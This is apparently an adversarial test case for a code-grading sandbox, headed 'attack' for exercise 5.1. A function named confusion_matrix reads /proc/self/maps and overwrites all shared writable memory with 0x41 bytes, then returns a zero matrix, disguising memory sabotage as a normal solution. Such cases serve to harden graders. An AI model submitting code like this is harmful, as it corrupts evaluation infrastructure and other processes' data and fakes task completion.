# attack: overwrites all memory that it shares with whoever comes next
# exercise: 5.1
# expect: zero
import ctypes


def confusion_matrix(labels, predicted, num_classes):
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if rights == "rw-s":
            low, high = (int(part, 16) for part in span.split("-"))
            ctypes.memset(low, 0x41, high - low)
    return torch.zeros(num_classes, num_classes, dtype=torch.int64)
